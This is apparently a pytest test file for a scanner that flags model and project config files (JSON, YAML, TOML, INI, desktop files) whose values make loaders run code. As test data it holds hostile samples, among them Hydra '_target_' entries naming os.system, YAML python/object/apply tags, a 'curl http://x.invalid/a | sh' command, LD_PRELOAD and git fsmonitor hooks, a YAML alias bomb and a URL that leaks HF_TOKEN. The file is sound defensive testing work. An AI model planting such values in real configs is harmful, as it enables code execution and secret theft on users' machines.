"""JSON, YAML, TOML and INI: what a loader would act upon is found, whatever it is written in."""

from __future__ import annotations

import codecs
import json
import random
from itertools import pairwise
from typing import Any

import pytest
import yaml  # type: ignore[import-untyped]
from hypothesis import given, settings
from hypothesis import strategies as st

from assay.core.finding import Severity, Verdict
from assay.core.limits import ScanLimits
from scanning.container_making import judge

ACTING: list[tuple[str, Any, str, Verdict]] = [
    ("auto_map", {"auto_map": {"AutoModel": "modeling_x.X"}}, "config.remote-code", Verdict.CLEAN),
    ("auto_map elsewhere", {"auto_map": {"AutoModel": "org/repo--modeling_x.X"}},
     "config.code-elsewhere", Verdict.SUSPICIOUS),
    ("auto_map in a list", {"auto_map": {"AutoTokenizer": ["tok.T", None]}},
     "config.remote-code", Verdict.CLEAN),
    ("auto_map out of the folder", {"auto_map": {"AutoModel": "../x.M"}}, "config.path-escape",
     Verdict.MALICIOUS),
    ("class of a module", {"@module": "os", "@class": "system"}, "config.dangerous-import",
     Verdict.MALICIOUS),
    ("callable", {"callback": "subprocess.Popen"}, "config.dangerous-import", Verdict.MALICIOUS),
    ("native library", {"custom_ops_library": "x.so"}, "config.dangerous-import",
     Verdict.MALICIOUS),
    ("preload", {"env": {"LD_PRELOAD": "./x.so"}}, "config.preload", Verdict.MALICIOUS),
    ("interpreter", {"python.defaultInterpreterPath": "${workspaceFolder}/bin/python"},
     "config.starts-by-itself", Verdict.MALICIOUS),
    ("custom_pipelines", {"custom_pipelines": {"x": {"impl": "m.P", "pt": ["AutoModel"]}}},
     "config.remote-code", Verdict.CLEAN),
    ("custom_generate", {"custom_generate": "org/repo"}, "config.code-elsewhere",
     Verdict.SUSPICIOUS),
    ("trust", {"model": {"trust_remote_code": True}}, "config.trusts-code", Verdict.CLEAN),
    ("target", {"x": {"_target_": "os.system", "command": "x"}}, "config.dangerous-import",
     Verdict.MALICIOUS),
    ("target eval", {"_target_": "builtins.eval", "_args_": ["1"]}, "config.dangerous-import",
     Verdict.MALICIOUS),
    ("target by resolver", {"_target_": "hydra.utils.get_method", "path": "os.system"},
     "config.dangerous-import", Verdict.MALICIOUS),
    ("target by detour", {"_target_": "logging.os.system"}, "config.dangerous-import",
     Verdict.MALICIOUS),
    ("target by alias", {"_target_": "posix.system"}, "config.dangerous-import",
     Verdict.MALICIOUS),
    ("target put together", {"a": "os", "b": "system", "x": {"_target_": "${a}.${b}"}},
     "config.dangerous-import", Verdict.MALICIOUS),
    ("target of the unknown", {"_target_": "mypkg.Model"}, "config.import-reference",
     Verdict.CLEAN),
    ("target of a pickle", {"_target_": "joblib.load", "filename": "x"},
     "config.dangerous-import", Verdict.MALICIOUS),
    ("target of the network", {"_target_": "requests.get", "url": "http://x.invalid"},
     "config.dangerous-import", Verdict.SUSPICIOUS),
    ("target with a secret", {"_target_": "requests.get", "url": "http://x/?${oc.env:HF_TOKEN}"},
     "config.dangerous-import", Verdict.MALICIOUS),
    ("numpy without its guard", {"_target_": "numpy.load", "file": "x", "allow_pickle": True},
     "config.dangerous-import", Verdict.MALICIOUS),
    ("class path", {"class_path": "subprocess.Popen", "init_args": {"args": "x"}},
     "config.dangerous-import", Verdict.MALICIOUS),
    ("target with params", {"target": "os.system", "params": {"command": "x"}},
     "config.dangerous-import", Verdict.MALICIOUS),
    ("component", {"type": "subprocess.run", "init_parameters": {"args": "x"}},
     "config.dangerous-import", Verdict.MALICIOUS),
    ("activation", {"activation_fn": "os.abort"}, "config.dangerous-import", Verdict.MALICIOUS),
    ("jsonpickle", {"py/reduce": [{"py/type": "os.system"}]}, "config.object-rebuilding",
     Verdict.MALICIOUS),
    ("langchain", {"lc": 1, "type": "constructor", "id": ["evil", "Tool"]},
     "config.import-reference", Verdict.SUSPICIOUS),
    ("adapter", {"auto_mapping": {"parent_library": "os", "base_model_class": "system"}},
     "config.dangerous-import", Verdict.MALICIOUS),
    ("command", {"services": {"x": {"command": "curl http://x.invalid/a | sh"}}},
     "config.command", Verdict.MALICIOUS),
    ("opened", {"postCreateCommand": "make"}, "config.starts-by-itself", Verdict.SUSPICIOUS),
    ("template", {"chat_template": "{{ x.__class__.__mro__ }}"}, "jinja", Verdict.MALICIOUS),
]  # fmt: skip

HONEST: list[tuple[str, Any]] = [
    ("config.json", {"model_type": "llama", "architectures": ["LlamaForCausalLM"],
                     "hidden_act": "silu", "torch_dtype": "bfloat16"}),
    ("config.json", {"activation_function": "gelu_new", "auto_map": None}),
    ("config.json", {"activation_function": "torch.nn.modules.activation.Tanh"}),
    ("config.json", {"trust_remote_code": False}),
    ("generation_config.json", {"do_sample": True, "temperature": 0.6, "eos_token_id": [1, 2]}),
    ("adapter_config.json", {"peft_type": "LORA", "auto_mapping": None, "r": 8,
                             "target_modules": ["q_proj"]}),
    ("adapter_config.json", {"auto_mapping": {"base_model_class": "LlamaModel",
                             "parent_library": "transformers.models.llama.modeling_llama"}}),
    ("model_index.json", {"_class_name": "P", "unet": ["diffusers", "UNet2DConditionModel"],
                          "safety_checker": [None, None]}),
    ("modules.json", [{"idx": 0, "type": "sentence_transformers.models.Transformer", "path": ""},
                      {"idx": 1, "type": "sentence_transformers.models.Pooling", "path": "1"}]),
    ("tokenizer.json", {"model": {"vocab": {"auto_map": 1, "_target_": 2, "class_path": 3,
                                            "py/object": 4, "command": 5}}}),
    ("train.yaml", {"model": {"_target_": "torch.nn.Linear", "in_features": 1},
                    "path": {"_target_": "pathlib.Path", "_args_": ["x"]},
                    "log": {"_target_": "logging.getLogger"},
                    "opt": {"_target_": "torch.optim.AdamW", "_partial_": True, "lr": 1e-4},
                    "data": "${oc.env:DATA_DIR,./data}"}),
    ("accelerate.yaml", {"compute_environment": "LOCAL_MACHINE", "num_processes": 8,
                         "mixed_precision": "bf16"}),
    ("ds.json", {"zero_optimization": {"stage": 3}, "fp16": {"enabled": "auto"}}),
    ("package.json", {"name": "x", "scripts": {"build": "tsc", "test": "jest --ci"}}),
    ("ldm.yaml", {"model": {"target": "ldm.models.diffusion.ddpm.LatentDiffusion",
                            "params": {"timesteps": 1000}}}),
    ("docker-compose.yaml", {"services": {"web": {"image": "x", "command": "python app.py"}}}),
    ("dvc.yaml", {"stages": {"train": {"cmd": "python train.py", "deps": ["a"]}}}),
]  # fmt: skip


@pytest.mark.parametrize(("name", "document", "rule", "verdict"), ACTING,
                         ids=[row[0] for row in ACTING])  # fmt: skip
@pytest.mark.parametrize("notation", ["json", "yaml"])
def test_keys_loaders_act_upon_are_found_in_any_notation(
    notation: str, name: str, document: Any, rule: str, verdict: Verdict
) -> None:
    text = json.dumps(document) if notation == "json" else yaml.safe_dump(document)
    judged = judge(text.encode(), f"config.{notation}")
    assert any(found.startswith(rule) for found in judged.rules), (name, judged)
    assert judged.verdict is verdict, judged


@pytest.mark.parametrize(("name", "document"), HONEST)
@pytest.mark.parametrize("notation", ["json", "yaml"])
def test_what_libraries_and_people_write_is_clean(notation: str, name: str, document: Any) -> None:
    text = json.dumps(document, indent=1) if notation == "json" else yaml.safe_dump(document)
    judged = judge(text.encode(), f"{name.rpartition('.')[0]}.{notation}")
    assert judged.verdict is Verdict.CLEAN, judged


def test_toml_and_ini_are_judged_by_the_same_keys() -> None:
    toml = judge(b'[model]\n_target_ = "os.system"\ncommand = "x"\n', "config.toml")
    ini = judge(b"[model]\n_target_ = os.system\n", "config.ini")
    assert toml.rules == ini.rules == {"config.dangerous-import"}


@pytest.mark.parametrize(
    ("raw", "rule"),
    [
        (b'{"a": 1, "a": 2}', "json.duplicate-key"),
        (b'{"a": NaN, "b": [-Infinity]}', "json.constant"),
    ],
)
def test_json_programs_disagree_about(raw: bytes, rule: str) -> None:
    assert judge(raw, "config.json").rules == {rule}


def test_numbers_python_writes_do_not_make_a_document_unknown() -> None:
    raw = json.dumps({"eps": float("nan"), "best": float("inf")}).encode()
    assert judge(raw, "trainer_state.json").verdict is Verdict.CLEAN


@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-16", "utf-16-le"])
def test_json_in_any_encoding_loaders_read_is_judged(encoding: str) -> None:
    raw = json.dumps({"_target_": "os.system"}).encode(encoding)
    assert "config.dangerous-import" in judge(raw, "config.json").rules


def test_comments_are_read_where_a_file_may_have_them() -> None:
    text = b'// c\n{"a": "http://x//y", /* b */ "_target_": "os.system",}\n'
    assert "config.dangerous-import" in judge(text, "tsconfig.json").rules
    assert judge(b'{"a": 1,}', "config.json").verdict is Verdict.UNKNOWN


def test_lines_of_json_are_read_by_any_name() -> None:
    text = b'{"a": 1}\n{"_target_": "os.system"}\n'
    assert "config.dangerous-import" in judge(text, "log.json").rules
    assert judge(b'{"a": 1}\n{"b": 2}\n', "log.json").verdict is Verdict.CLEAN


def test_documents_over_the_budget_or_too_deep_are_unread() -> None:
    raw = json.dumps({"a": "x" * 2000}).encode()
    assert judge(raw, "a.json", limits=ScanLimits(json_bytes=1000)).verdict is Verdict.UNKNOWN
    assert judge(b"[" * 200_000, "a.json").verdict is Verdict.UNKNOWN


@pytest.mark.parametrize(
    ("text", "rule", "verdict"),
    [
        ("!!python/object/apply:os.system [x]", "yaml.runs-code", Verdict.MALICIOUS),
        ("!!python/object/apply:eval ['1']", "yaml.runs-code", Verdict.MALICIOUS),
        ("a: !!python/name:subprocess.Popen", "yaml.runs-code", Verdict.MALICIOUS),
        ("a: !!python/module:os", "yaml.builds-object", Verdict.MALICIOUS),
        ("!!python/object/new:type\n args: []", "yaml.runs-code", Verdict.MALICIOUS),
        ("a: !!python/object:mypkg.Thing {}", "yaml.builds-object", Verdict.SUSPICIOUS),
        ("a: !!python/object:torch.Size []", "yaml.library-object", Verdict.CLEAN),
        ("a: !!python/tuple [1, 2]", "", Verdict.CLEAN),
        ("a: !include ../../etc/passwd", "yaml.include", Verdict.SUSPICIOUS),
        ("a: !include base.yaml", "", Verdict.CLEAN),
        ("a: !exec \"__import__('os').system('x')\"", "yaml.runs-code", Verdict.MALICIOUS),
        ("a: 1\na: 2", "yaml.duplicate-key", Verdict.CLEAN),
        ("a: !Ref x\nb: !Sub y", "", Verdict.CLEAN),
    ],
)  # fmt: skip
def test_tags_are_judged_by_what_they_name(text: str, rule: str, verdict: Verdict) -> None:
    judged = judge(text.encode(), "config.yaml")
    assert judged.verdict is verdict, judged
    assert judged.rules == ({rule} if rule else set())


def test_tags_are_found_in_text_that_is_no_yaml_here() -> None:
    judged = judge(b"a: b: !!python/object/apply:os.system [x]\n", "a.yaml")
    assert "yaml.runs-code" in judged.rules
    assert judged.verdict is Verdict.MALICIOUS


def test_aliases_that_multiply_are_a_bomb() -> None:
    names = "abcdefghijklmnopqrstuvwxyz"
    text = "a: &a [x, x]\n" + "".join(
        f"{b}: &{b} [{', '.join([f'*{a}'] * 9)}]\n" for a, b in pairwise(names)
    )
    assert "yaml.alias-bomb" in judge(text.encode(), "a.yaml").rules
    assert judge(b"a: &a {x: 1}\nb: *a\nc: *a\n", "a.yaml").verdict is Verdict.CLEAN


def test_front_matter_of_a_model_card_is_judged() -> None:
    card = b"---\nlicense: mit\nx: !!python/object/apply:os.system [x]\n---\n# Card\n"
    assert "yaml.runs-code" in judge(card, "README.md").rules
    assert judge(b"---\nlicense: mit\n---\n# A: b: c\n", "README.md").verdict is Verdict.CLEAN


MLMODEL = {
    "flavors": {"python_function": {"loader_module": "mlflow.sklearn", "model_path": "model.pkl",
                                    "env": {"conda": "conda.yaml"}}},
    "mlflow_version": "2.9.0",
    "model_uuid": "x",
}  # fmt: skip


def test_shards_outside_of_the_folder_are_told_of() -> None:
    index = {"metadata": {}, "weight_map": {"a": "model-1.safetensors", "b": "../../x.bin"}}
    name = "model.safetensors.index.json"
    assert "config.path-escape" in judge(json.dumps(index).encode(), name).rules
    index["weight_map"] = {"a": "model-1.safetensors"}
    assert judge(json.dumps(index).encode(), name).verdict is Verdict.CLEAN


@pytest.mark.parametrize(
    ("value", "verdict"),
    [
        ("${eval:'__import__(\"os\").system(1)'}", Verdict.MALICIOUS),
        ("${eval:'${a} * 2'}", Verdict.CLEAN),
    ],
)
def test_resolvers_that_evaluate_are_judged_by_what_they_are_given(
    value: str, verdict: Verdict
) -> None:
    assert judge(yaml.safe_dump({"a": 1, "b": value}).encode(), "a.yaml").verdict is verdict


@pytest.mark.parametrize(
    ("name", "text", "verdict"),
    [
        ("x.url", "[InternetShortcut]\nURL=file://x.invalid/a.exe\n", Verdict.MALICIOUS),
        ("x.url", "[InternetShortcut]\nURL=https://x.invalid/\n", Verdict.CLEAN),
        ("desktop.ini", "[.ShellClassInfo]\nIconFile=\\\\x.invalid\\a.ico\n", Verdict.MALICIOUS),
        ("x.desktop", "[Desktop Entry]\nExec=sh x.sh\n", Verdict.MALICIOUS),
    ],
)
def test_files_a_desktop_acts_upon(name: str, text: str, verdict: Verdict) -> None:
    assert judge(text.encode(), name).verdict is verdict


def test_the_loader_mlflow_imports_is_judged() -> None:
    assert judge(yaml.safe_dump(MLMODEL).encode(), "MLmodel").verdict is Verdict.CLEAN
    changed = json.loads(json.dumps(MLMODEL))
    changed["flavors"]["python_function"]["loader_module"] = "os"
    assert judge(yaml.safe_dump(changed).encode(), "MLmodel").verdict is Verdict.MALICIOUS
    changed["flavors"]["python_function"].update(loader_module="mlflow.sklearn", code="../../x")
    assert judge(yaml.safe_dump(changed).encode(), "MLmodel").verdict is Verdict.MALICIOUS


@pytest.mark.parametrize(
    ("name", "text", "rule"),
    [
        (".env", "LD_PRELOAD=/tmp/x.so\n", "config.preload"),
        (".gitconfig", "[core]\n  fsmonitor = touch x\n", "ini.starts-command"),
        (".gitconfig", "[alias]\n  st = !touch x\n", "ini.starts-command"),
        ("setup.cfg", "[x]\nrun = curl http://x.invalid/a | sh\n", "ini.hostile-command"),
    ],
)
def test_settings_that_start_something(name: str, text: str, rule: str) -> None:
    judged = judge(text.encode(), name)
    assert rule in judged.rules
    assert judged.verdict is Verdict.MALICIOUS


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("pyproject.toml", '[project]\nname = "x"\nversion = "1"\ndependencies = ["torch>=2"]\n'),
        ("config.cfg", '[nlp]\nlang = "en"\npipeline = ["tagger"]\n\n[components.x]\nn = "t"\n'),
        (".env", "MODEL_PATH=./model\nLD_PRELOAD=/usr/lib/libtcmalloc.so.4\nPORT=80\n"),
        ("setup.cfg", "[flake8]\nmax-line-length = 100\nexclude =\n    .git\n    build\n"),
        ("log4j.properties", "log4j.rootLogger=INFO, console\n"),
        (".gitconfig", "[user]\n  name = x\n[core]\n  editor = vim\n"),
        ("x.toml", "a = 1\n[b]\nc = [1, 2]\n"),
    ],
)  # fmt: skip
def test_ordinary_settings_are_clean(name: str, text: str) -> None:
    assert judge(text.encode(), name).verdict is Verdict.CLEAN


def test_a_flood_of_references_keeps_the_grave_one() -> None:
    rows = [{"_target_": f"pkg{n}.Name"} for n in range(3000)] + [{"_target_": "os.system"}]
    judged = judge(json.dumps(rows).encode(), "a.json")
    assert judged.findings[0].rule == "config.dangerous-import"
    assert judged.findings[0].severity is Severity.HIGH


SAMPLE = json.dumps({"a": {"_target_": "os.system"}, "b": [1, None, "x"]}).encode()


def test_every_beginning_of_a_document_ends_with_an_answer() -> None:
    text = b"%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:os.system [x]\n"
    for end in range(1, len(text) + 1):
        judge(text[:end], "a.yaml")
    for end in range(1, len(SAMPLE)):
        assert judge(SAMPLE[:end], "a.json").verdict is not Verdict.CLEAN


@given(st.integers(0, 2**32), st.sampled_from(["a.json", "a.yaml", "a.toml", "a.ini", "MLmodel"]))
@settings(max_examples=120, deadline=None)
def test_no_change_to_a_document_makes_the_reader_fail(seed: int, name: str) -> None:
    rng = random.Random(seed)
    _, document, _, _ = rng.choice(ACTING)
    text = json.dumps(document) if name == "a.json" else yaml.safe_dump(document)
    raw = bytearray(text.encode())
    for _ in range(rng.randint(1, 6)):
        at = rng.randrange(len(raw))
        raw[at : at + rng.randint(0, 3)] = rng.randbytes(rng.randint(0, 3))
    judge(bytes(raw) or b"x", name)


def test_a_byte_order_mark_alone_is_no_document() -> None:
    assert judge(codecs.BOM_UTF8 + b"x", "a.json").verdict is Verdict.UNKNOWN


def test_commands_an_assistant_starts_are_told_of() -> None:
    servers = json.dumps({"mcpServers": {"x": {"command": "npx", "args": ["y"]}}}).encode()
    assert judge(servers, ".cursor/mcp.json").verdict is Verdict.SUSPICIOUS
    assert judge(servers, "config.json").verdict is Verdict.CLEAN
